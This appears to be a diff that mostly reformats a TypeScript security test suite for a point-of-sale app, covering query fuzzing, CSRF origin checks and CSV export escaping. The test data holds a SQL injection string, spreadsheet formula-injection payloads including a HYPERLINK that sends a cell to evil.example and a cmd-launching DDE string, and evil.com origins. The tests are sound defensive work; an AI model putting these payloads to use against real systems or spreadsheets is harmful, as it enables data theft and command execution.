@@ -17,8 +17,47 @@ import { checkoutAs, expectLedgerClean, newCustomer, newWorld, type World } from
 let world: World
 let foreignIds: Record<string, number[]>
 
-const COLLECTIONS = ['customers', 'invoices', 'transactions', 'allocations', 'advance-payments', 'advance-utilizations', 'bookings', 'assets', 'credit-cards', 'credit-card-invoices', 'payment-statuses', 'stores', 'users'] as const
-const FIELDS = ['id', 'store', 'name', 'phone', 'number', 'status', 'amount', 'total', 'amountDue', 'pendingBalance', 'customer', 'customer.name', 'customer.store', 'store.name', 'createdAt', 'role', 'email', 'type', 'kind', 'isClosed', 'nonexistent', 'password', 'hash', 'salt']
+const COLLECTIONS = [
+  'customers',
+  'invoices',
+  'transactions',
+  'allocations',
+  'advance-payments',
+  'advance-utilizations',
+  'bookings',
+  'assets',
+  'credit-cards',
+  'credit-card-invoices',
+  'payment-statuses',
+  'stores',
+  'users',
+] as const
+const FIELDS = [
+  'id',
+  'store',
+  'name',
+  'phone',
+  'number',
+  'status',
+  'amount',
+  'total',
+  'amountDue',
+  'pendingBalance',
+  'customer',
+  'customer.name',
+  'customer.store',
+  'store.name',
+  'createdAt',
+  'role',
+  'email',
+  'type',
+  'kind',
+  'isClosed',
+  'nonexistent',
+  'password',
+  'hash',
+  'salt',
+]
 const OPERATORS = ['equals', 'not_equals', 'in', 'not_in', 'like', 'contains', 'greater_than', 'less_than_equal', 'exists', 'near', 'all']
 
 beforeAll(async () => {
@@ -29,7 +68,11 @@ beforeAll(async () => {
   const token = await world.api.login(otherCashier.email)
   const other = { ...world, store: world.otherStore, tokens: { ...world.tokens, cashier: token } }
   const customer = await newCustomer(other)
-  const sale = await checkoutAs(other, token, { customer: customer.id, items: [{ description: 'Secret', quantity: 1, unitPrice: 1_000 }], payments: [{ method: 'cash', amount: 500 }] })
+  const sale = await checkoutAs(other, token, {
+    customer: customer.id,
+    items: [{ description: 'Secret', quantity: 1, unitPrice: 1_000 }],
+    payments: [{ method: 'cash', amount: 500 }],
+  })
   foreignIds = { customers: [customer.id], invoices: [sale.body.bill.id], transactions: sale.body.transactions.map((tx: { id: number }) => tx.id) }
   const mine = await newCustomer(world)
   await checkoutAs(world, world.tokens.cashier, { customer: mine.id, items: [{ description: 'Mine', quantity: 1, unitPrice: 2_000 }] })
@@ -68,7 +111,11 @@ describe('query fuzzing', () => {
     role: fc.constantFrom('admin', 'owner', 'cashier', 'otherOwner', 'anonymous'),
     field: fc.constantFrom(...FIELDS),
     operator: fc.constantFrom(...OPERATORS),
-    value: fc.oneof(fc.integer({ min: -5, max: 1_000_000 }), fc.string({ maxLength: 12 }), fc.constantFrom('true', 'null', '', "'; DROP TABLE customers; --", '%', '[object Object]')),
+    value: fc.oneof(
+      fc.integer({ min: -5, max: 1_000_000 }),
+      fc.string({ maxLength: 12 }),
+      fc.constantFrom('true', 'null', '', "'; DROP TABLE customers; --", '%', '[object Object]'),
+    ),
     sort: fc.constantFrom('', 'id', '-id', 'name', '-pendingBalance', 'customer.name', 'nonexistent', '-createdAt'),
     depth: fc.constantFrom('0', '1', '2', '5', '-1', 'abc', '100'),
     select: fc.constantFrom('', 'name', 'store', 'password', 'hash'),
@@ -156,7 +203,9 @@ describe('issue 12 #3: CSRF — a cookie-authenticated write must come from an a
     const self = world.api.baseUrl
     const before = await advanceBalanceOf(customer)
     expect((await browser('POST', `/api/customers/${customer}/advances`, world.tokens.cashier, { origin: self, type: 'application/json', body: deposit })).status).toBe(201)
-    expect((await browser('POST', `/api/customers/${customer}/advances`, world.tokens.cashier, { referer: `${self}/pos`, type: 'application/json', body: deposit })).status).toBe(201)
+    expect((await browser('POST', `/api/customers/${customer}/advances`, world.tokens.cashier, { referer: `${self}/pos`, type: 'application/json', body: deposit })).status).toBe(
+      201,
+    )
     expect(await advanceBalanceOf(customer)).toBe(before + 20_000)
   })
 
@@ -181,7 +230,10 @@ describe('issue 12 #3: CSRF — a cookie-authenticated write must come from an a
     try {
       const res = await browser('POST', `/api/customers/${customer}/advances`, world.tokens.cashier, { origin: 'https://till.example', type: 'application/json', body: deposit })
       expect(res.status, JSON.stringify(res.body)).toBe(201)
-      expect((await browser('POST', `/api/customers/${customer}/advances`, world.tokens.cashier, { origin: 'https://till.example.evil.com', type: 'application/json', body: deposit })).status).toBe(403)
+      expect(
+        (await browser('POST', `/api/customers/${customer}/advances`, world.tokens.cashier, { origin: 'https://till.example.evil.com', type: 'application/json', body: deposit }))
+          .status,
+      ).toBe(403)
     } finally {
       if (saved === undefined) delete process.env.TALLY_ALLOWED_ORIGINS
       else process.env.TALLY_ALLOWED_ORIGINS = saved
@@ -194,7 +246,10 @@ describe('issue 12 #3: CSRF — a cookie-authenticated write must come from an a
     expect(patch.status).toBe(403)
     const fresh = (await newCustomer(world)).id
     expect((await browser('DELETE', `/api/customers/${fresh}`, world.tokens.owner, evil)).status).toBe(403)
-    const gql = await browser('POST', '/api/graphql', world.tokens.owner, { ...evil, body: JSON.stringify({ query: `mutation { updateCustomer(id: ${customer}, data: { name: "evil" }) { id } }` }) })
+    const gql = await browser('POST', '/api/graphql', world.tokens.owner, {
+      ...evil,
+      body: JSON.stringify({ query: `mutation { updateCustomer(id: ${customer}, data: { name: "evil" }) { id } }` }),
+    })
     expect(gql.status).toBe(403)
     const stored = await (await testPayload()).findByID({ collection: 'customers', id: customer, overrideAccess: true, depth: 0 })
     expect(stored.name).not.toMatch(/evil/)
@@ -210,10 +265,13 @@ describe('issue 12 #3: CSRF — a cookie-authenticated write must come from an a
 })
 
 describe('issue 12 #9: every CSV export escapes formulae', () => {
-  const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(A1:A2)', '\t=1+1', '\r=1+1']
+  const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", '@SUM(A1:A2)', '\t=1+1', '\r=1+1']
 
   it('a cell that a spreadsheet would run as a formula is written as text', () => {
-    const csv = toCsv(HOSTILE.map((name) => ({ name, phone: '+919876543210', amount: '-600.00' })), ['name', 'phone', 'amount'])
+    const csv = toCsv(
+      HOSTILE.map((name) => ({ name, phone: '+919876543210', amount: '-600.00' })),
+      ['name', 'phone', 'amount'],
+    )
     const lines = csv.split('\r\n').slice(1)
     expect(lines).toHaveLength(HOSTILE.length)
     for (const line of lines) {
